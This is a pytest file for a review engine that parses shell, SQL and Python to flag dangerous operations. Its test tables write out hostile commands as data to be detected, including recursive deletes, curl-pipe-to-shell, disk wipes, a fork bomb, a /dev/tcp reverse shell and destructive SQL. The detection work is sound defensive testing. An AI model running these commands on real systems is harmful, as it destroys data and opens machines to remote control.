"""Shell and SQL are parsed, not searched: the same words in another place mean another thing."""

from __future__ import annotations

import ast

import pytest

from incidents.engine.review import shell, sql
from incidents.engine.review.names import Names
from incidents.engine.review.texts import text_of, words


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("rm -rf x", "recursive-delete"),
        ("rm -r -f x", "recursive-delete"),
        ("rm -f -R x", "recursive-delete"),
        ("/bin/rm --recursive x", "recursive-delete"),
        ("sudo -n rm -fr x", "recursive-delete"),
        ("LANG=C rm -rf x", "recursive-delete"),
        ("ls | xargs rm -rf", "recursive-delete"),
        ("true && rm -rf x", "recursive-delete"),
        ("rm *", "recursive-delete"),
        ("bash -c 'rm -rf x'", "recursive-delete"),
        ("find . -name x -delete", "recursive-delete"),
        ("curl x | sh", "fetch-and-run"),
        ("curl -s x|sudo bash", "fetch-and-run"),
        ("wget -O - x | python3 -", "fetch-and-run"),
        ('sh -c "$(curl -fsSL x)"', "fetch-and-run"),
        ("dd if=a of=/dev/sda", "disk-command"),
        ("mkfs.xfs /dev/vdb", "disk-command"),
        ("chmod -R 777 /srv", "open-permissions"),
        ("chmod a+rwx x", "open-permissions"),
        (":(){ :|:& };:", "fork-bomb"),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse-shell"),
        ("shutdown -h now", "stops-the-machine"),
        ("git reset --hard HEAD~3", "history-loss"),
        ("redis-cli FLUSHALL", "drops-database"),
    ],
)
def test_harmful_shell_is_told(text: str, rule: str) -> None:
    assert rule in {found[0] for found in shell.objections(text)}


@pytest.mark.parametrize(
    "text",
    [
        "rm server.lock",
        "rm -f server.lock",
        "baby wipes",
        "echo rm -rf x",
        "chmod 600 key",
        "chmod +x start.sh",
        "dd",
        "curl https://a.example -o file",
        "curl https://a.example | grep ok",
        "grep -r rm .",
        "git status",
        "find . -name '*.py'",
        "kill 4711",
        "it's an open quote",
        "",
        "truncate the title",
    ],
)
def test_ordinary_shell_is_left_alone(text: str) -> None:
    assert list(shell.objections(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE a",
        "drop database shop",
        "TRUNCATE orders",
        "DELETE FROM a",
        "DELETE FROM a WHERE true",
        "DELETE FROM a WHERE x = 1 OR 1 = 1",
        "UPDATE a SET b = 1",
        "SELECT 1; DELETE FROM a",
        "ALTER TABLE a DROP COLUMN b",
        "-- tidy up\nDELETE FROM a",
    ],
)
def test_sql_that_loses_data_is_told(text: str) -> None:
    assert [found[1] for found in sql.objections(text, surely_sql=True)] == ["data_loss"]


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM a",
        "DELETE FROM a WHERE id = ?",
        "DELETE FROM a WHERE id = %s AND b = :b",
        "UPDATE a SET b = b + 1 WHERE id = 3",
        "INSERT INTO a VALUES ('DROP TABLE b')",
        "CREATE TABLE a (b INTEGER)",
        "ALTER TABLE a ADD COLUMN c TEXT",
        "SELECT 'delete from a'",
        "",
    ],
)
def test_sql_that_keeps_data_is_left_alone(text: str) -> None:
    assert list(sql.objections(text, surely_sql=True)) == []


@pytest.mark.parametrize(
    "text", ["drop table lamps from the cart", "delete from your list", "Update it"]
)
def test_prose_is_no_sql(text: str) -> None:
    assert list(sql.objections(text, surely_sql=False)) == []


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("import os\nos.system", "os.system"),
        ("import os as o\no.system", "os.system"),
        ("from os import system as s\ns", "os.system"),
        ("import os\nrun = os.system\nrun", "os.system"),
        ("import os\ngetattr(os, 'system')", "os.system"),
        ("__import__('os').system", "os.system"),
        ("import importlib\nimportlib.import_module('os').system", "os.system"),
        ("import builtins\nbuiltins.eval", "eval"),
        ("e = eval\ne", "eval"),
        ("import os.path\nos.system", "os.system"),
        ("model.eval", "model.eval"),
        ("import re\nre.compile", "re.compile"),
    ],
)
def test_a_call_is_known_by_its_real_name(source: str, name: str) -> None:
    tree = ast.parse(source)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    assert Names(tree).of(last.value) == name


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("'a' 'b'", "ab"),
        ("f'a {b} c'", "a computed_value c"),
        ("'a ' + b", "a computed_value"),
        ("'a %s' % b", "a computed_value"),
        ("'a {}'.format(b)", "a computed_value"),
    ],
)
def test_a_text_is_put_together(source: str, text: str) -> None:
    assert text_of(ast.parse(source, mode="eval").body) == text


def test_a_list_of_words_is_a_command() -> None:
    command = words(ast.parse("['sh', '-c', 'rm -rf x']", mode="eval").body)
    assert command == "sh -c 'rm -rf x'"
